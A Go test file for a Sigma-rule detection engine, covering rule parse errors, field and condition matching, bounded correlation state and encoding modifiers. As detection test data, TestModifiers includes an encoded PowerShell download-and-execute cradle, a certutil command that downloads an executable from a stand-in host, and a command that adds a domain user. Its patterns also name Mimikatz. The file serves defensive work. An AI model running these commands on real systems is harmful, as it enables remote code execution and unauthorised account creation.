package detect

import (
	"errors"
	"net/netip"
	"runtime"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/firebreak-msp/firebreak/internal/event"
)

func TestRuleErrors(t *testing.T) {
	det := "title: t\nid: x\nlogsource: {product: linux}\ndetection:\n"
	tests := []struct {
		name, src, want string
		unsupported     bool
	}{
		{"bad-regex", det + "  sel: {user.name|re: '(unclosed'}\n  condition: sel\n", `bad.yml:5: rule "t": detection.sel.user.name|re: bad regular expression`, false},
		{"unknown-modifier", det + "  sel: {user.name|sortof: x}\n  condition: sel\n", `unknown modifier "sortof"`, false},
		{"time-modifier", det + "  sel: {'@timestamp|hour': 3}\n  condition: sel\n", `bad.yml:5: rule "t": detection.sel.@timestamp|hour: unsupported Sigma feature: modifier hour`, true},
		{"base64-wildcard", det + "  sel: {CommandLine|base64offset|contains: 'a*b'}\n  condition: sel\n", "wildcards in a value with base64offset", true},
		{"expand-partial", det + "  sel: {host.name|expand: 'x%dc%'}\n  condition: sel\n", "expand value", true},
		{"filter-no-rules", "title: t\nid: x\nlogsource: {product: linux}\nfilter:\n  sel: {a: b}\n  condition: not sel\n", "filter.rules", false},
		{"pipe-aggregation", det + "  sel: {a: b}\n  condition: sel | count() by x > 5\n", "aggregation after |", true},
		{"near", det + "  sel: {a: b}\n  condition: sel near sel\n", "unexpected", false},
		{"unknown-selection", det + "  sel: {a: b}\n  condition: sel and other\n", `unknown selection "other"`, false},
		{"unbalanced", det + "  sel: {a: b}\n  condition: (sel\n", "missing )", false},
		{"no-condition", det + "  sel: {a: b}\n", "detection.condition is required", false},
		{"bad-cidr", det + "  sel: {source.ip|cidr: 10.0.0.0/33}\n  condition: sel\n", "bad CIDR", false},
		{"bad-level", "title: t\nid: x\nlevel: severe\ndetection:\n  sel: {a: b}\n  condition: sel\n", `level "severe"`, false},
		{"value-sum", "title: t\nid: x\ncorrelation:\n  type: value_sum\n  rules: [a]\n  timespan: 1m\n  condition: {gte: 1}\n", "correlation type value_sum", true},
		{"bad-timespan", "title: t\nid: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 10 minutes\n  condition: {gte: 1}\n", "timespan", false},
		{"no-field", "title: t\nid: x\ncorrelation:\n  type: value_count\n  rules: [a]\n  timespan: 1m\n  condition: {gte: 1}\n", "condition.field is required", false},
		{"bad-operator", "title: t\nid: x\ncorrelation:\n  type: event_count\n  rules: [a]\n  timespan: 1m\n  condition: {ge: 1}\n", `unknown operator "ge"`, false},
		{"unknown-option", det + "  sel: {a: b}\n  condition: sel\nfirebreak:\n  scopes: tenant\n", "firebreak.scopes: unknown option", false},
		{"bad-scope", det + "  sel: {a: b}\n  condition: sel\nfirebreak:\n  scope: galaxy\n", "want tenant or cross-tenant", false},
		{"both", det + "  sel: {a: b}\n  condition: sel\ncorrelation: {type: event_count}\n", "one of detection, correlation or filter", false},
		{"not-yaml", "title: [", "invalid YAML", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := LoadRules(fstest.MapFS{"bad.yml": {Data: []byte(tt.src)}})
			if err == nil {
				t.Fatal("no error")
			}
			if !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "bad.yml") {
				t.Errorf("error %q does not name the file and contain %q", err, tt.want)
			}
			if errors.Is(err, ErrUnsupported) != tt.unsupported {
				t.Errorf("errors.Is(err, ErrUnsupported) = %v, want %v", !tt.unsupported, tt.unsupported)
			}
		})
	}
}

func TestEngineErrors(t *testing.T) {
	tests := []struct{ name, src, want string }{
		{"dangling", "title: c\nid: c\ncorrelation:\n  type: event_count\n  rules: [nope]\n  timespan: 1m\n  condition: {gte: 1}\n", `no rule named "nope"`},
		{"cycle", "title: c\nname: c\ncorrelation:\n  type: event_count\n  rules: [d]\n  timespan: 1m\n  condition: {gte: 1}\n---\ntitle: d\nname: d\ncorrelation:\n  type: event_count\n  rules: [c]\n  timespan: 1m\n  condition: {gte: 1}\n", "cycle"},
		{"cap", "title: a\nname: a\ndetection: {s: {a: b}, condition: s}\n---\ntitle: c\nname: c\ncorrelation:\n  type: value_count\n  rules: [a]\n  timespan: 1m\n  condition: {field: x, gte: 50}\nfirebreak: {max_values: 10}\n", "max_values"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rules, err := ParseRules("c.yml", []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			_, err = NewEngine(rules, Options{})
			if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "c.yml") {
				t.Errorf("error %v, want one naming c.yml and containing %q", err, tt.want)
			}
		})
	}
}

func TestMatching(t *testing.T) {
	ev := &event.Event{UserName: "Administrator", SourceIP: netip.MustParseAddr("10.1.2.3"), Action: "ssh_failed_password",
		Fields: map[string]string{"CommandLine": `powershell.exe -enc AAA`, "Status": "0xC000006A", "LogonType": "3"}}
	tests := []struct {
		sel  string
		want bool
	}{
		{"user.name: administrator", true},
		{"user.name|cased: administrator", false},
		{"user.name: 'admin*'", true},
		{"user.name: 'a?min*tor'", true},
		{"user.name|startswith: ADMIN", true},
		{"user.name|endswith: trator", true},
		{"user.name|contains: NIST", true},
		{"user.name|contains|all: [adm, tor]", true},
		{"user.name|contains|all: [adm, xyz]", false},
		{"user.name: [bob, administrator]", true},
		{"source.ip|cidr: 10.0.0.0/8", true},
		{"source.ip|cidr: [192.168.0.0/16, 172.16.0.0/12]", false},
		{"source.ip: 10.1.2.3", true},
		{"source.ip: '10.1.*'", true},
		{"CommandLine|re: '-enc\\s+[A-Z]+'", true},
		{"CommandLine|re: 'POWERSHELL'", false},
		{"CommandLine|re|i: 'POWERSHELL'", true},
		{"Status: '0xc000006a'", true},
		{"LogonType|gte: 3", true},
		{"LogonType|lt: 3", false},
		{"Missing|exists: false", true},
		{"Status|exists: true", true},
		{"Missing: null", true},
		{"Missing: x", false},
		{"EventID: 4625", false},
		{"user.name: 'adm\\*'", false},
	}
	for _, tt := range tests {
		t.Run(tt.sel, func(t *testing.T) {
			src := "title: t\nid: x\ndetection:\n  sel:\n    " + tt.sel + "\n  condition: sel\n"
			rules, err := ParseRules("m.yml", []byte(src))
			if err != nil {
				t.Fatal(err)
			}
			if got := rules[0].detection.match(ev); got != tt.want {
				t.Errorf("match = %v, want %v", got, tt.want)
			}
		})
	}
	conds := []struct {
		cond string
		want bool
	}{
		{"a and b", true}, {"a and not b", false}, {"not (c or d) and a", true}, {"1 of sel*", true},
		{"all of sel*", false}, {"all of them", false}, {"1 of them", true}, {"2 of them", true},
		{"(a or c) and (b or d)", true}, {"sel1 or sel2", true}, {"a and (c or (d or b))", true},
	}
	for _, tt := range conds {
		t.Run(tt.cond, func(t *testing.T) {
			src := "title: t\nid: x\ndetection:\n  a: {user.name: administrator}\n  b: {event.action|startswith: ssh_}\n  c: {user.name: root}\n  d: {Status: '0x0'}\n  sel1: {LogonType: 3}\n  sel2: {LogonType: 2}\n  condition: " + tt.cond + "\n"
			rules, err := ParseRules("m.yml", []byte(src))
			if err != nil {
				t.Fatal(err)
			}
			if got := rules[0].detection.match(ev); got != tt.want {
				t.Errorf("%s = %v, want %v", tt.cond, got, tt.want)
			}
		})
	}
}

// TestBoundedState feeds failures from 5 million distinct source addresses:
// the brute-force windows stay under max_groups and the evictions are counted.
func TestBoundedState(t *testing.T) {
	n := 5_000_000
	if testing.Short() {
		n = 500_000
		t.Logf("-short: %d addresses instead of 5,000,000", n)
	}
	src := `title: fail
name: fail
detection: {s: {event.outcome: failure}, condition: s}
---
title: bf
id: bf
level: medium
correlation: {type: event_count, rules: [fail], group-by: [source.ip], timespan: 1h, condition: {gte: 5}}
firebreak: {max_groups: 10000}
---
title: spray
id: spray
level: high
correlation: {type: value_count, rules: [fail], group-by: [user.name], timespan: 1h, condition: {field: source.ip, gte: 5000}}
firebreak: {max_groups: 100, max_values: 5000}
`
	rules, err := ParseRules("bounded.yml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	e, err := NewEngine(rules, Options{})
	if err != nil {
		t.Fatal(err)
	}
	ev := event.Event{Outcome: "failure", UserName: "root", Tenant: "t"}
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range n {
		ev.Timestamp = t0.Add(time.Duration(i) * time.Millisecond)
		ev.SourceIP = netip.AddrFrom4([4]byte{byte(i >> 24), byte(i >> 16), byte(i >> 8), byte(i)})
		e.Process(&ev)
	}
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	if ms.HeapAlloc > 64<<20 {
		t.Errorf("heap %d MB after %d distinct addresses, want < 64 MB", ms.HeapAlloc>>20, n)
	}
	t.Logf("heap after %d distinct addresses: %.1f MB", n, float64(ms.HeapAlloc)/(1<<20))
	s := e.Stats()
	var bf, spray RuleStats
	for _, r := range s.Rules {
		switch r.Rule {
		case "bf":
			bf = r
		case "spray":
			spray = r
		}
	}
	if bf.Groups > 10000 || bf.Dropped != int64(n-10000) {
		t.Errorf("bf: %d groups, %d dropped; want ≤ 10000 and %d", bf.Groups, bf.Dropped, n-10000)
	}
	if spray.Groups != 1 {
		t.Errorf("spray: %d groups, want 1", spray.Groups)
	}
	incs := e.Incidents()
	if len(incs) != 1 || incs[0].Distinct < 5000 || !incs[0].DistinctCap {
		t.Errorf("want one spray incident with ≥ 5000 (capped) distinct addresses, got %+v", incs)
	}
}

// TestModifiers checks the encoding, windash, fieldref, neq and expand
// modifiers on values encoded outside Go (Python's base64 of UTF-16LE text).
func TestModifiers(t *testing.T) {
	ev := &event.Event{UserName: "Administrator", Dataset: "windows.security", Fields: map[string]string{
		"CommandLine":     `powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA`,
		"Shifted":         `eAB4AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAHgAJwApAA==`,
		"Payload":         "aGVsbG8gd29ybGQ=",
		"NetCmd":          "net user bob P@ss /add /domain",
		"DashCmd":         "certutil –urlcache –f http://x a.exe",
		"SubjectUserName": "ADMINISTRATOR", "TargetUserName": "administrator", "LogonType": "3",
	}}
	x := newEnv(&Context{Placeholders: map[string][]string{"admins": {"root", "administrator"}, "nets": {"10.0.0.0/8"}}})
	tests := []struct {
		sel  string
		want bool
	}{
		{"CommandLine|wide|base64offset|contains: 'New-Object Net.WebClient'", true},
		{"Shifted|wide|base64offset|contains: 'New-Object Net.WebClient'", true},
		{"Shifted|wide|base64offset|contains: 'Invoke-Mimikatz'", false},
		{"CommandLine|base64offset|contains: 'New-Object'", false}, // not UTF-16
		{"Payload|base64: 'hello world'", true},
		{"Payload|base64: 'hello'", false},
		{"NetCmd|windash|contains: ' -add'", true},
		{"NetCmd|windash|contains: ' -delete'", false},
		{"DashCmd|windash|contains: ' -urlcache -f '", true},
		{"DashCmd|contains: ' -urlcache'", false},
		{"NetCmd|windash|contains: 'P-ss'", false}, // a dash inside a word is not an option
		{"SubjectUserName|fieldref: TargetUserName", true},
		{"SubjectUserName|fieldref|cased: TargetUserName", false},
		{"SubjectUserName|fieldref: user.name", true},
		{"TargetUserName|fieldref|startswith: LogonType", false},
		{"LogonType|neq: 3", false},
		{"LogonType|neq: 2", true},
		{"LogonType|neq: [2, 10]", true},
		{"Missing|neq: 2", true},
		{"user.name|expand: '%admins%'", true},
		{"user.name|expand: '%nobody%'", false},
		{"SubjectUserName|expand|startswith: '%admins%'", true},
	}
	for _, tt := range tests {
		t.Run(tt.sel, func(t *testing.T) {
			src := "title: t\nid: x\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    " + tt.sel + "\n  condition: sel\n"
			rules, err := ParseRules("m.yml", []byte(src))
			if err != nil {
				t.Fatal(err)
			}
			if got := rules[0].detection.cond.eval(ev, x); got != tt.want {
				t.Errorf("match = %v, want %v", got, tt.want)
			}
		})
	}
}

// TestBase64Offsets compares with pySigma's base64offset algorithm, run in
// Python on the same value: ['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v'].
func TestBase64Offsets(t *testing.T) {
	got := base64Offsets("http://")
	want := []string{"aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("base64Offsets(http://) = %q, want %q", got, want)
	}
}

// TestRequiredOutcomes: the candidate prefilter only skips a rule for an
// outcome its condition cannot match.
func TestRequiredOutcomes(t *testing.T) {
	tests := []struct {
		det  string
		want []string
	}{
		{"  s: {event.outcome: failure, user.name: x}\n  condition: s", []string{"failure"}},
		{"  s: {event.outcome: [failure, Success]}\n  m: {event.reason: mfa}\n  condition: m and s", []string{"failure", "success"}},
		{"  s: {event.outcome: failure}\n  condition: not s", nil},
		{"  s: {event.outcome: failure}\n  t: {user.name: x}\n  condition: s or t", nil},
		{"  s: {event.outcome|contains: fail}\n  condition: s", nil},
		{"  s: {event.outcome|cased: failure}\n  condition: s", nil},
		{"  s:\n    - event.outcome: failure\n    - user.name: x\n  condition: s", nil},
	}
	for _, tt := range tests {
		rules, err := ParseRules("o.yml", []byte("title: t\nid: x\ndetection:\n"+tt.det+"\n"))
		if err != nil {
			t.Fatal(err)
		}
		if got := requiredOutcomes(rules[0].detection.cond); strings.Join(got, ",") != strings.Join(tt.want, ",") {
			t.Errorf("%q: %q, want %q", tt.det, got, tt.want)
		}
	}
}
